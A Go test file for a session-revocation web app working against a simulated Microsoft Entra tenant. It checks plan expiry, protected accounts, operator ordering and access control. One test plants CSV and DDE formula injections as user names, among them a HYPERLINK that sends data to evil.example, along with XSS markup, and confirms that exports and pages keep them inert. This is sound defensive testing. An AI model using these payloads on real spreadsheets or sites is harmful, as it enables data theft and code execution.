package app_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"evict/internal/audit"
	"evict/internal/entrasim"
)

func TestAPlanThatIsTooOldIsExpandedAgain(t *testing.T) {
	t.Parallel()
	c := &clock{}
	d := small(t, c.use)
	lead := d.signedIn(d.cast.Lead)
	old := lead.preview(lead.add(lead.newScope(), "Include", "Finance"), nil)
	total := old.total()
	for range 2 { // the session ends after half an hour without a click, and so does the list
		c.forward(16 * time.Minute)
		lead.get("/").has(http.StatusOK)
	}
	expired := lead.get(old.path()).has(http.StatusOK).says("expand the scope again")
	if expired.doc.Find(`form[action="`+old.path()+`/run"]`).Length() > 0 {
		t.Error("a list that is over can be confirmed")
	}
	late := lead.submit(old, old.path()+"/run", confirmation(old, "too late")).has(http.StatusConflict)
	late.says("older than 30 minutes")
	if n := d.Sim.Totals().Posts; n != 0 {
		t.Errorf("%d calls", n)
	}
	joined := d.Sim.AddUser("New", "Colleague", "Finance")
	group, _ := d.Sim.Group("Finance")
	if err := d.Sim.AddToGroup(joined.ID, group); err != nil {
		t.Fatal(err)
	}
	fresh := lead.ready(lead.press(expired, "Expand again", nil))
	if fresh.path() == old.path() || fresh.total() != total+1 {
		t.Errorf("expanded again: %d people, want %d", fresh.total(), total+1)
	}
	change := lead.get(fresh.link("What changed")).says(joined.UPN)
	if diff := cmp.Diff(map[string]int{"joined": 1, "gone": 0, "in both": total}, change.counts()); diff != "" {
		t.Errorf("what changed (-want +got):\n%s", diff)
	}
	lead.stands(lead.start(fresh, "in time").path(), "finished")
	if n := d.Sim.Tally(joined.ID).Revocations; n != 1 {
		t.Errorf("the new colleague was revoked %d times", n)
	}
}

func TestProtectedAccountsStayOutAndAWholeTenantNeedsSome(t *testing.T) {
	t.Parallel()
	d := small(t)
	admin, r, keeper := d.signedIn(d.cast.Admin), d.reader(), d.operator("Keeper", "Evict.Admin")
	scope := admin.press(admin.newScope(), "Include the whole tenant", nil).has(http.StatusOK)
	admin.get(scope.path()+"?counts=1").says("the whole tenant", "No account is protected")
	plan := admin.preview(scope, nil).says("Tenant-wide", "Can a break-glass account sign in")

	// Nobody is protected: that has to be acknowledged.
	refused := admin.submit(plan, plan.path()+"/run", confirmation(plan, "everybody")).has(http.StatusUnprocessableEntity)
	if refused.doc.Find("#no_protected-error").Text() == "" || refused.doc.Find("#reason").Text() != "everybody" {
		t.Errorf("nothing stands beside the box, or what was typed is lost:\n%s", refused.text())
	}
	if n := d.Sim.Totals().Posts; n != 0 {
		t.Errorf("%d calls", n)
	}

	// Who keeps the list acts in nothing else, and so holds no token until Microsoft is asked for one.
	k := d.signedIn(keeper)
	before := r.length()
	syncs, glass := d.cast.SyncAccount, d.cast.BreakGlass[0]
	settings := k.get("/settings/protected").says("No account is protected")
	typed := url.Values{"account": {syncs.UPN}, "kind": {"sync"}, "note": {"on the server in the cellar"}}
	stopped := k.submit(settings, "/settings/protected", typed).has(http.StatusUnauthorized)
	back := k.choose(k.get(stopped.link("Continue to Microsoft")), keeper)
	if back.path() != "/settings/protected" || back.doc.Find("#account").AttrOr("value", "") != syncs.UPN || back.doc.Find("#note").AttrOr("value", "") != "on the server in the cellar" {
		t.Fatalf("one comes back to %s, without what was typed:\n%s", back.url, back.text())
	}
	settings = k.submit(back, "/settings/protected", nil).has(http.StatusOK).says(syncs.UPN, syncs.ID, "in the cellar")
	for _, wrong := range []url.Values{
		{"account": {"nobody.at.all@larkfield.example"}}, {"account": {"../me"}}, {"account": {""}},
		{"account": {glass.UPN}, "kind": {"nonsense"}}, {"account": {glass.UPN}, "note": {strings.Repeat("x", 501)}},
	} {
		p := k.submit(settings, "/settings/protected", wrong).has(http.StatusUnprocessableEntity)
		if p.doc.Find(".field-error").Length() != 1 {
			t.Errorf("%v: no error beside a field", wrong)
		}
	}
	if p := admin.submit(refused, plan.path()+"/run", nil).has(http.StatusUnprocessableEntity); p.doc.Find("#no_protected-error").Text() == "" {
		t.Error("a protected account of the synchronisation passes for one that can sign in")
	}
	for _, p := range []entrasim.Person{glass, d.cast.BreakGlass[1], d.cast.Victim} {
		settings = k.submit(settings, "/settings/protected", url.Values{"account": {p.ID}, "kind": {"break-glass"}}).has(http.StatusOK)
	}
	form := settings.doc.Find(`form[action="/settings/protected/remove"]`).Has(`input[value="` + d.cast.Victim.ID + `"]`)
	k.post("/settings/protected/remove", settings.filled(form, nil)).has(http.StatusOK)
	if settings = k.get("/settings/protected"); settings.row("table", d.cast.Victim) != "" || settings.row("table", glass) == "" {
		t.Errorf("who was removed still stands there, or somebody else does not:\n%s", settings.text())
	}
	var told []string
	for _, e := range r.after(before) {
		if e.Kind == audit.SettingsChanged && e.Operator.OID == keeper.ID {
			told = append(told, e.Detail["protected_account"]+" "+e.Target.UPN)
		}
	}
	want := []string{
		"added " + syncs.UPN, "added " + glass.UPN, "added " + d.cast.BreakGlass[1].UPN, "added " + d.cast.Victim.UPN, "removed " + d.cast.Victim.UPN,
	}
	if diff := cmp.Diff(want, told); diff != "" {
		t.Errorf("the ledger (-want +got):\n%s", diff)
	}

	// A new list leaves them out and asks nothing.
	fresh := admin.ready(admin.press(admin.get(plan.path()), "Expand again", nil))
	if fresh.total() != plan.total()-3 || fresh.doc.Find("#no_protected").Length() > 0 {
		t.Errorf("with three protected there are %d of %d", fresh.total(), plan.total())
	}
	fresh.silent("Can a break-glass account sign in")
	left := admin.get(fresh.path() + "?left=protected")
	for _, p := range []entrasim.Person{glass, d.cast.BreakGlass[1], syncs} {
		if row := left.row("#people table", p); !strings.Contains(row, "protected") {
			t.Errorf("%s is not named among the protected: %q", p.UPN, row)
		}
	}

	// The old list holds them still; the run does not touch them, and so needs no acknowledgement any more.
	run := admin.submit(admin.get(plan.path()), plan.path()+"/run", confirmation(plan, "everybody")).path()
	end := admin.stands(run, "finished")
	doc := admin.document(run)
	for _, p := range []entrasim.Person{glass, d.cast.BreakGlass[1], syncs} {
		if got := doc.target(p).Outcome; got != "skipped" || d.Sim.Tally(p.ID).Posts != 0 {
			t.Errorf("%s, protected since, is %q after %d calls", p.UPN, got, d.Sim.Tally(p.ID).Posts)
		}
	}
	if end.outcomes()["skipped"] != 3 || doc.target(d.cast.GlobalAdmin).Outcome != "confirmed" || doc.left(d.cast.Admin) != "the operator" {
		t.Errorf("outcomes %v; the operator is left out as %q", doc.Run.Outcomes, doc.left(d.cast.Admin))
	}
	if r.get("/").path() != "/signin" {
		t.Error("the auditor, who was revoked, is still signed in")
	}
	admin.get("/users/" + glass.ID).says("Revoke sessions") // one at a time they still can be
}

func TestTheOperatorIsLeftOutOrGoesLast(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead, r := d.signedIn(d.cast.Lead), d.reader()
	scope := lead.newScope(d.cast.Lead, d.cast.Victim, d.cast.Synced, d.cast.Disabled, d.cast.ExternalGuest)
	without := lead.preview(scope, nil)
	if row := lead.get(without.path()+"?left=all").row("#people table", d.cast.Lead); !strings.Contains(row, "the operator") {
		t.Errorf("the operator is not among those left out: %q", row)
	}
	scope = lead.get(scope.path())
	plan := lead.preview(scope, url.Values{"self_ok": {"yes"}, "external_ok": {"yes"}}).says("You are in this list", "as the last")
	if last := plan.doc.Find("#people tbody tr").Last().Text(); plan.total() != 5 || !strings.Contains(last, d.cast.Lead.UPN) {
		t.Errorf("the last of %d is %s", plan.total(), last)
	}
	before := r.length()
	run := lead.submit(plan, plan.path()+"/run", confirmation(plan, "me too")).path()
	if run == "/signin" { // it was quick
		run = ""
	}
	out := lead.eventually("/runs", "the end of the operator's session", func(p *page) bool { return p.path() == "/signin" })
	var order []string
	for _, e := range r.after(before) {
		if e.Kind == audit.TargetAttempted || e.Kind == audit.TargetConfirmed || e.Kind == audit.TargetNotCovered {
			order = append(order, e.Target.UPN+" "+string(e.Kind))
		}
		if run == "" && e.Run != "" {
			run = "/runs/" + e.Run
		}
	}
	if n := len(order); n != 9 || order[n-1] != d.cast.Lead.UPN+" target.attempted" {
		t.Errorf("the operator is not called after all others have their outcome: %q", order)
	}
	r.stands(run, "paused: needs sign-in").says("Only " + d.cast.Lead.UPN)

	d.nextSecond()
	lead.choose(lead.get(out.link("Sign in with Microsoft")), d.cast.Lead).has(http.StatusOK)
	lead.stands(run, "finished").says("not covered")
	doc := lead.document(run)
	if got := doc.target(d.cast.Lead).Outcome; got != "confirmed" || d.Sim.Tally(d.cast.Lead.ID).Posts != 1 {
		t.Errorf("the operator is %q after %d calls", got, d.Sim.Tally(d.cast.Lead.ID).Posts)
	}
	if got := doc.target(d.cast.ExternalGuest); got.Outcome != "not covered" || d.Sim.Tally(d.cast.ExternalGuest.ID).Revocations != 0 {
		t.Errorf("the guest is %q", got.Outcome)
	}
}

func TestExternalAccountsAreLeftOutUnlessInsistedOn(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead := d.signedIn(d.cast.Lead)
	guests := []entrasim.Person{d.cast.ExternalGuest, d.cast.ExternalMember}
	scope := lead.newScope(append(guests, d.cast.InternalGuest, d.cast.ConvertedMember)...)
	plan := lead.preview(scope, nil)
	if plan.total() != 2 || plan.counts()["left standing"] != 2 {
		t.Errorf("%d in, %v", plan.total(), plan.counts())
	}
	report := lead.get(lead.stands(lead.start(plan, "without guests").path(), "finished").path() + "/report")
	stands := report.doc.Find("section.stands").Text()
	for _, p := range guests {
		if !strings.Contains(stands, p.ID) || d.Sim.Tally(p.ID).Posts != 0 {
			t.Errorf("%s was called, or the report does not name them", p.UPN)
		}
	}
	insisted := lead.preview(lead.get(scope.path()), url.Values{"external_ok": {"yes"}}).says("External accounts", "home tenant keeps the session")
	out := lead.ready(lead.press(insisted, "Take out", url.Values{"kind_out": {"external"}}))
	if out.total() != 2 {
		t.Errorf("without everybody external there are %d", out.total())
	}
	end := lead.stands(lead.start(lead.get(insisted.path()), "with guests").path(), "finished")
	if diff := cmp.Diff(map[string]int{"confirmed": 2, "not covered": 2}, end.outcomes()); diff != "" {
		t.Errorf("counts (-want +got):\n%s", diff)
	}
	end.says("2 of 4 are proven cut off", "Ask it to revoke")
	for _, p := range guests {
		if n := d.Sim.Tally(p.ID); n.Posts != 1 || n.Revocations != 0 {
			t.Errorf("%s: %+v", p.UPN, n)
		}
	}
}

func TestAnExportIsSafeAndHostileNamesAreInert(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead := d.signedIn(d.cast.Lead)
	hostile := []entrasim.Person{
		d.Sim.AddUser(`=HYPERLINK("http://evil.example?x="&A1`, `"Click")`, "Finance"), d.Sim.AddUser("+1-1", "Plus", "Sales"),
		d.Sim.AddUser("-2+3", "Minus", "Sales"), d.Sim.AddUser("@SUM(A1:A9)", "At", "Sales"), d.Sim.AddUser("\t=1+1", "Tab", "Sales"),
		d.Sim.AddUser("\u202Egnp.exe", "Turned\r\n=cmd|'/C calc'!A0", "Sales"), d.Sim.AddUser(`<img src=x onerror=alert(1)>"`, "</script><b>", "Sales"),
	}
	scope := lead.press(lead.newScope(append(hostile, d.cast.ExternalGuest)...), "Save", url.Values{"title": {"<b>=1+1</b>\u202E"}})
	plan := lead.preview(scope, nil)
	for _, list := range []struct {
		query, file string
		rows        int
	}{
		{"", "REHEARSAL-targets.csv", len(hostile)}, {"?left=all", "REHEARSAL-left-standing.csv", 1},
	} {
		got := lead.post(plan.path()+"/targets.csv"+list.query, nil).has(http.StatusOK)
		if disposition := got.header.Get("Content-Disposition"); disposition != `attachment; filename="`+list.file+`"` ||
			!strings.HasPrefix(got.header.Get("Content-Type"), "text/csv") {
			t.Errorf("it comes as %s, %s", disposition, got.header.Get("Content-Type"))
		}
		rows, err := csv.NewReader(strings.NewReader(got.body)).ReadAll()
		if err != nil || len(rows) != list.rows+1 {
			t.Fatalf("%d rows, want a head and %d (%v)", len(rows), list.rows, err)
		}
		for i, row := range rows {
			if len(row) != len(rows[0]) || i > 0 && !slices.Contains(row, "REHEARSAL: nothing is revoked") {
				t.Errorf("row %d: %q", i, row)
			}
			for _, cell := range row {
				if strings.ContainsAny(cell, "\t\r\n\u202E") || cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
					t.Errorf("a spreadsheet would take %q for more than text", cell)
				}
			}
		}
	}
	run := lead.start(plan, "=cmd|' /C calc'!A0 <script>alert(1)</script>").path()
	lead.stands(run, "finished")
	less := lead.preview(lead.get(scope.path()), nil)
	less = lead.ready(lead.press(less, "Take out", url.Values{"out": {hostile[0].ID, hostile[5].ID, hostile[6].ID}}))
	k := d.signedIn(d.cast.Admin)
	k.submit(k.get("/settings/protected"), "/settings/protected", url.Values{"account": {hostile[6].ID}, "kind": {"other"}, "note": {"<i>note</i>"}})
	for _, address := range []string{
		scope.path(), "/scopes", plan.path(), plan.path() + "?left=all", plan.path() + "?text=%3Cscript%3E", less.path(), less.link("What changed"), run,
		run + "?show=all", run + "?show=%3Cscript%3E", run + "/report", "/runs", "/", "/settings/protected",
	} {
		p := lead.get(address).has(http.StatusOK)
		if n := p.doc.Find("img, b:not(a.chip b), i, script:not([src]), [onerror]").Length(); n > 0 {
			t.Errorf("%s: markup of a name is live %d times", address, n)
		}
	}
	if body := lead.post(run+"/report.json", nil).body; strings.Contains(body, "<script>") || strings.Contains(body, "<img") {
		t.Error("report.json holds bare markup")
	}
}

func TestOfAnothersScopesAndPlansOneSeesWhatTheyShare(t *testing.T) {
	t.Parallel()
	d := small(t)
	owner := d.signedIn(d.cast.Lead)
	o := owner.objects()
	other, approver, admin := d.signedIn(d.operator("Other", "Evict.Lead")), d.signedIn(d.cast.Approver), d.signedIn(d.operator("Keeper", "Evict.Admin"))

	// A draft is its owner's alone.
	unknown := other.get("/scopes/" + nowhere).has(http.StatusNotFound)
	draft := other.get(o.draft).has(http.StatusNotFound).silent(d.cast.Victim.UPN)
	if a, b := draft.text(), unknown.text(); len(a) != len(b) {
		t.Errorf("another's draft reads otherwise than none:\n%s\n%s", a, b)
	}
	for _, action := range []string{"/add", "/remove", "/save", "/copy", "/delete", "/preview"} {
		other.post(o.draft+action, url.Values{"kind": {"tenant"}, "side": {"include"}}).has(http.StatusNotFound)
	}
	other.get(o.draft + "?counts=1").has(http.StatusNotFound)
	if other.get("/scopes").doc.Find(`a[href="`+o.draft+`"]`).Length() > 0 {
		t.Error("another's draft is listed")
	}

	// One with a title opens for every Lead, to read and to copy.
	version := url.Values{"version": {owner.get(o.scope).doc.Find(`input[name="version"]`).AttrOr("value", "")}, "settings": {"yes"}, "title": {"mine"}}
	shared := other.get(o.scope).has(http.StatusOK).says("An object", d.cast.Lead.UPN)
	if forms := shared.doc.Find(`main form[method="post"]`); forms.Length() != 1 || forms.AttrOr("action", "") != o.scope+"/copy" {
		t.Errorf("another's scope offers %d forms", forms.Length())
	}
	for _, action := range []string{"/add", "/remove", "/save", "/delete", "/preview"} {
		other.post(o.scope+action, version).has(http.StatusForbidden).says("somebody else's")
	}
	owner.press(owner.get(o.scope), "Save", url.Values{"self_ok": {"yes"}})
	mine := other.press(shared, "Use a copy", nil).has(http.StatusOK).says("draft")
	if _, on := mine.doc.Find("#self_ok").Attr("checked"); on || mine.path() == o.scope {
		t.Error("a copy takes along that its owner wanted to be included")
	}

	// A plan is its maker's until it has a run.
	for who, b := range map[string]*browser{"another Lead": other, "Approver": approver, "Admin": admin} {
		b.get(o.list).has(http.StatusNotFound).silent(d.cast.Victim.UPN)
		b.post(o.list+"/targets.csv", nil).has(http.StatusNotFound)
		b.get(o.plan + "/compare" + strings.TrimPrefix(o.list, "/plans")).has(http.StatusNotFound)
		p := b.get(o.plan).has(http.StatusOK).says(d.cast.Victim.UPN)
		if p.doc.Find(`form[action="`+o.plan+`/run"], input[name="out"]`).Length() > 0 {
			t.Errorf("%s: another's plan can be confirmed or changed", who)
		}
		if csv := b.post(o.plan+"/targets.csv", nil).has(http.StatusOK); !strings.Contains(csv.body, d.cast.Victim.ID) {
			t.Errorf("%s: the export holds %q", who, csv.body)
		}
		b.get(o.many).has(http.StatusOK)
		b.get(o.many + "/report").has(http.StatusOK)
	}
	if log := d.log.String(); !strings.Contains(log, "a plan that may not be seen") || !strings.Contains(log, "a scope that may not be seen") {
		t.Error("a miss is not logged")
	}
	list := owner.get(o.list)
	stolen := confirmation(list, "by somebody else")
	stolen.Set("list_digest", list.doc.Find(`input[name="list_digest"]`).AttrOr("value", ""))
	before := d.Sim.Totals().Posts
	other.post(o.list+"/run", stolen).has(http.StatusNotFound)
	other.post(o.list+"/without", url.Values{"out": {d.cast.Victim.ID}}).has(http.StatusNotFound)
	swapped := confirmation(list, "another list")
	swapped.Set("list_digest", strings.Repeat("0", 64))
	owner.submit(list, o.list+"/run", swapped).has(http.StatusConflict).says("not the list that the page showed", "another list")
	if n := d.Sim.Totals().Posts; n != before {
		t.Errorf("%d calls for plans that were not theirs, or not seen", n-before)
	}
}

func TestWhoTriesAnothersRunAgainIsNotInItThemselves(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead := d.signedIn(d.cast.Lead)
	other := d.operator("Other", "Evict.Lead")
	d.Sim.Inject(entrasim.Fault{Method: http.MethodPost, Match: revokeCall, UserID: other.ID, Kind: entrasim.Forbidden403})
	scope := lead.newScope(d.cast.GlobalAdmin, other, d.cast.Lead)
	plan := lead.preview(scope, url.Values{"self_ok": {"yes"}})
	b := d.signedIn(other)
	run := lead.start(plan, "both of us").path()
	b.stands(run, "paused: needs sign-in")
	b.press(b.get(run), "Cancel the rest", nil)
	b.stands(run, "cancelled")
	retry := b.ready(b.press(b.get(run), "Plan them again", nil))
	if row := retry.row("#people table", other); row != "" {
		t.Errorf("whoever tries again is in the list by another's choice: %q", row)
	}
	came := b.ready(b.press(b.get(run), "Look for late-comers", nil))
	if came.total() != 0 || came.doc.Find("#confirm").Length() > 0 {
		t.Errorf("nobody joined since, and yet:\n%s", came.text())
	}
}

func TestAPlanSaysWhatItCouldNotSeeAndCannotRevoke(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead := d.signedIn(d.cast.Lead)
	d.Sim.SetConsent("openid", "profile", "offline_access", "User.Read", "User.Read.All", "GroupMember.Read.All",
		"RoleManagement.Read.Directory", "User.RevokeSessions.All") // and not what shows hidden members
	scope := lead.add(lead.newScope(), "Include", "Staff support") // with a group inside that hides its members
	scope = lead.add(scope, "Include", "Global Reader")            // which a program holds too
	plan := lead.preview(scope, nil).says("Health and wellbeing", "Backup orchestrator", "rotate")
	button := plan.doc.Find("#confirm button").Last().Text()
	if number := "Revoke " + strconv.Itoa(plan.total()); !strings.HasPrefix(button, number) || !strings.Contains(button, " not ") {
		t.Errorf("the button says %q, and so not that a source is missing", button)
	}
	report := lead.get(lead.stands(lead.start(plan, "half blind").path(), "finished").path() + "/report")
	for _, want := range []string{"Health and wellbeing", "Backup orchestrator"} {
		if !strings.Contains(report.doc.Find("section.stands").Text(), want) {
			t.Errorf("the report does not open with %s, which was not cut", want)
		}
	}
}

func TestAnExpansionThatFailsSaysWhyAndIsRepeated(t *testing.T) {
	t.Parallel()
	d := small(t)
	lead, r := d.signedIn(d.cast.Lead), d.reader()
	scope := lead.newScope(d.cast.Victim, d.cast.Synced)
	before := r.length()
	if err := d.Sim.Revoke(d.cast.Lead.ID); err != nil {
		t.Fatal(err)
	}
	plan := lead.press(scope, "Preview targets", nil)
	failed := lead.eventually(plan.path(), "the failure", func(p *page) bool { return strings.Contains(p.text(), "could not be found") })
	failed.says("Microsoft asks you to sign in again", "Expand again")
	if failed.doc.Find(`[hx-get="`+plan.path()+`"], noscript meta`).Length() > 0 {
		t.Error("a page that will not change asks for itself again")
	}
	d.tells(t, r, before)
	d.nextSecond()
	lead.submit(lead.get("/me"), "/auth/signout", nil)
	lead.get(d.Sim.BrowserURL() + "/" + d.Sim.TenantID() + "/oauth2/v2.0/logout")
	lead.signIn(d.cast.Lead).has(http.StatusOK)
	if again := lead.ready(lead.press(lead.get(plan.path()), "Expand again", nil)); again.total() != 2 {
		t.Errorf("expanded again there are %d", again.total())
	}
}
